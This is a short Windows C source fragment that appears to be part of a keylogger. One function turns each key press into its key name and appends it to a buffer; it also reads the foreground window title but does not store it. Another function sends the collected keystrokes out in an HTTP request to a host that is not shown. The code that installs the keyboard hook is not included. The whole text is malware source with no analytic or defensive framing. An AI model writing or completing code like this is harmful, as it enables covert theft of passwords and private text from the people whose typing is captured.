#include <windows.h>
#include <wininet.h>
static char page[2048];
void press(DWORD vk) {
    char key[32], head[64];
    GetWindowTextA(GetForegroundWindow(), head, sizeof head);
    GetKeyNameTextA((LONG)(MapVirtualKeyA(vk, 0) << 16), key, sizeof key);
    lstrcatA(page, key);
}
void flush(HINTERNET h) { HttpSendRequestA(h, 0, 0, page, lstrlenA(page)); }
